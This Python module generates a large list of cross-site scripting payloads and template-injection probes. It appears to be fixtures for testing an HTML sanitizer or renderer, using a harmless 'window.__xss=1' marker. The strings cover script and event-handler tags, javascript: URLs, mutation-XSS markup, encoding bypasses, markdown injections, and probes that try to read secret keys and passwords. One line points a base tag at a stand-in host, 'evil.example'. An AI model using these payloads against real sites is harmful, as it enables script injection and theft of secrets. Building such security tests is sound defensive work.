"""Three hundred and more ways to make a browser run what a person typed. Each leaves ``window.__xss`` behind when it runs,
and a tag of its own (``data-xss``) in the page when it is only drawn as markup.
"""

from __future__ import annotations

from itertools import product

RUN = "window.__xss=1"
MARK = "data-xss"

_SELF_RUNNING = (
    "<script>{run}</script>",
    "<script {mark}>{run}</script>",
    "<ScRiPt {mark}>{run}</sCrIpT>",
    "<script/x {mark}>{run}</script>",
    "<script\n{mark}>{run}</script\n>",
    "<scr<script>ipt {mark}>{run}</scr</script>ipt>",
    "<script src=data:text/javascript,{run} {mark}></script>",
    "<img src=x onerror={run} {mark}>",
    "<img/src=x/onerror={run}//{mark}>",
    "<IMG SRC=x ONERROR={run} {mark}>",
    "<img src=x onerror='{run}' {mark}>",
    '<img src=x onerror="{run}" {mark}>',
    "<img src=x onerror=&#119;indow.__xss=1 {mark}>",
    "<img\tsrc=x\tonerror={run}\t{mark}>",
    "<image src=x onerror={run} {mark}>",
    "<svg onload={run} {mark}>",
    "<svg/onload={run} {mark}>",
    "<svg><script {mark}>{run}</script></svg>",
    "<svg><script {mark}>window&#46;__xss=1</script></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s {mark}>",
    "<svg><set onbegin={run} attributeName=x {mark}>",
    "<svg><foreignObject><img src=x onerror={run} {mark}></foreignObject></svg>",
    '<svg><use href="data:image/svg+xml,<svg id=x onload={run}>#x" {mark}/></svg>',
    "<svg><image href=x onerror={run} {mark} />",
    '<svg><a xlink:href="javascript:{run}" {mark}><text y=20>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror={run} {mark}>",
    '<math><maction actiontype=statusline xlink:href="javascript:{run}" {mark}>x</maction></math>',
    '<math href="javascript:{run}" {mark}>x</math>',
    '<math><annotation-xml encoding="text/html"><img src=x onerror={run} {mark}></annotation-xml></math>',
    "<body onload={run} {mark}>",
    "<body onpageshow={run} {mark}>",
    '<iframe src="javascript:parent.__xss=1" {mark}></iframe>',
    '<iframe srcdoc="<script>parent.__xss=1</script>" {mark}></iframe>',
    "<iframe onload={run} {mark}></iframe>",
    '<object data="javascript:{run}" {mark}></object>',
    "<object onerror={run} data=x {mark}></object>",
    '<embed src="javascript:{run}" {mark}>',
    "<video><source onerror={run} {mark}></video>",
    "<video src=x onerror={run} {mark}></video>",
    "<audio src=x onerror={run} {mark}>",
    "<input autofocus onfocus={run} {mark}>",
    "<textarea autofocus onfocus={run} {mark}></textarea>",
    "<select autofocus onfocus={run} {mark}></select>",
    "<button autofocus onfocus={run} {mark}>x</button>",
    "<a href=# autofocus tabindex=1 onfocus={run} {mark}>x</a>",
    "<details open ontoggle={run} {mark}>x",
    "<marquee onstart={run} {mark}>x</marquee>",
    "<link rel=stylesheet href=data:, onload={run} {mark}>",
    "<style onload={run} {mark}></style>",
    "<style {mark}>@keyframes x{{}}</style><p style=animation-name:x onanimationstart={run} {mark}>",
    '<meta http-equiv=refresh content="0;url=javascript:{run}" {mark}>',
    '<base href="https://evil.example/" {mark}>',
    '<form action="javascript:{run}" {mark}><button>x</button></form>',
    '<isindex action="javascript:{run}" type=image {mark}>',
    '<noscript><p title="</noscript><img src=x onerror={run} {mark}>">',
    "<template><img src=x onerror={run} {mark}></template>",
    "<xss {mark} style=animation:x onanimationend={run}>x</xss>",
    '<div {mark} hx-on:load="{run}" hx-trigger=load hx-get=/>x</div>',
    '<div {mark} hx-get="javascript:{run}" hx-trigger=load>x</div>',
    '<div {mark} hx-trigger="load[{run}]" hx-get=/>x</div>',
    '<a href="javascript:{run}" {mark}>x</a>',
    '<a href="jAvAsCrIpT:{run}" {mark}>x</a>',
    '<a href="java\tscript:{run}" {mark}>x</a>',
    '<a href="&#106;avascript:{run}" {mark}>x</a>',
    '<a href="data:text/html,<script>opener.__xss=1</script>" {mark}>x</a>',
    # markup that changes its meaning when it is read twice (mXSS)
    '<noembed><img title="</noembed><img src=x onerror={run} {mark}>"></noembed>',
    '<xmp><p title="</xmp><img src=x onerror={run} {mark}>">',
    "<listing>&lt;img src=x onerror={run} {mark}&gt;</listing>",
    '<p id="</title><img src=x onerror={run} {mark}>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={run} {mark}>",
    '<svg></p><style><a id="</style><img src=x onerror={run} {mark}>">',
    "<![CDATA[<img src=x onerror={run} {mark}>]]>",
    "<!--><img src=x onerror={run} {mark}>-->",
    "<!-- --!><img src=x onerror={run} {mark}> -->",
    '<?xml version="1.0"?><img src=x onerror={run} {mark}>',
    "&lt;img src=x onerror={run} {mark}&gt;",
    "&amp;lt;img src=x onerror={run} {mark}&amp;gt;",
    "%3Cimg src=x onerror={run} {mark}%3E",
    "\\u003cimg src=x onerror={run} {mark}\\u003e",
    "\\x3cimg src=x onerror={run} {mark}\\x3e",
    "＜img src=x onerror={run} {mark}＞",
    "+ADw-img src=x onerror={run} {mark}+AD4-",
)
_WAYS_OUT = (
    "{}", "\"{}", "'{}", "\">{}", "'>{}", "`>{}", "</title>{}", "</textarea>{}", "</script>{}", "</style>{}", "--></p>{}",
)  # fmt: skip
_IN_PLACE = (
    "\" onmouseover=\"{run}\" {mark}=\"",
    "' onmouseover='{run}' {mark}='",
    "\" autofocus onfocus=\"{run}\" {mark}=\"",
    "' autofocus onfocus='{run}' {mark}='",
    "` onfocus=`{run}` autofocus {mark}=`",
    " autofocus onfocus={run} {mark} ",
    "x\" style=\"animation-name:x\" onanimationstart=\"{run}\" {mark}=\"",
    "';{run};//", "\";{run};//", "\\\";{run};//", "\\';{run};//", "`;{run};//", "${{{run}}}", "*/{run}/*", "\n{run}\n",
    "javascript:{run}", "javascript://%0a{run}", "data:text/html,<script>{run}</script>", "vbscript:{run}",
    "[x](javascript:{run})", "![x](x\"onerror=\"{run})", "[x]: javascript:{run}", "<javascript:{run}>",
    "[x](data:text/html,<script>{run}</script>)", "```html\n<img src=x onerror={run} {mark}>\n```",
    "[a](<javascript:{run}>)", "![]()<img src=x onerror={run} {mark}>", "# <img src=x onerror={run} {mark}>",
    "- <svg onload={run} {mark}>", "> <svg onload={run} {mark}>", "| <img src=x onerror={run} {mark}> |", "<!--{run}-->",
)  # fmt: skip
SUMS = (
    "{{31337*7}}", "{% 31337*7 %}", "{{ settings.SECRET_KEY }}", "{% debug %}", "{% include 'error.html' %}", "${31337*7}",
    "#{31337*7}", "<%= 31337*7 %>", "{{= 31337*7}}", "[[31337*7]]", "{{constructor.constructor('window.__xss=1')()}}",
    "{{''.__class__.__mro__}}", "{%raw%}{{31337*7}}{%endraw%}", "*{31337*7}", "@(31337*7)", "{php}echo 31337*7;{/php}",
    "{{request.user.password}}", "{% load static %}{% static 'x' %}", "<c-icon name=\"x\" />", "<c-amount :of=\"31337*7\" />",
)  # fmt: skip
THE_SUM = str(31337 * 7)


def payloads() -> list[str]:
    """All of them, each once."""
    drawn = [shape.format(run=RUN, mark=MARK) for shape in _SELF_RUNNING]
    escaped = [way.format(shape) for way, shape in product(_WAYS_OUT[1:], drawn[7:8] + drawn[15:16] + drawn[1:2])]
    attributes = [way.format(shape) for way, shape in product(_WAYS_OUT[1:6], drawn[29:60])]
    in_place = [shape.format(run=RUN, mark=MARK) for shape in _IN_PLACE]
    return list(dict.fromkeys([*drawn, *escaped, *attributes, *in_place, *SUMS]))


def short_payloads(longest: int, most: int = 1_000) -> list[str]:
    """Those that fit a small field, in one line, spread over all kinds."""
    fitting = [one for one in payloads() if len(one) <= longest and one.isprintable()]
    step = max(1, len(fitting) // most)
    return fitting[::step][:most]
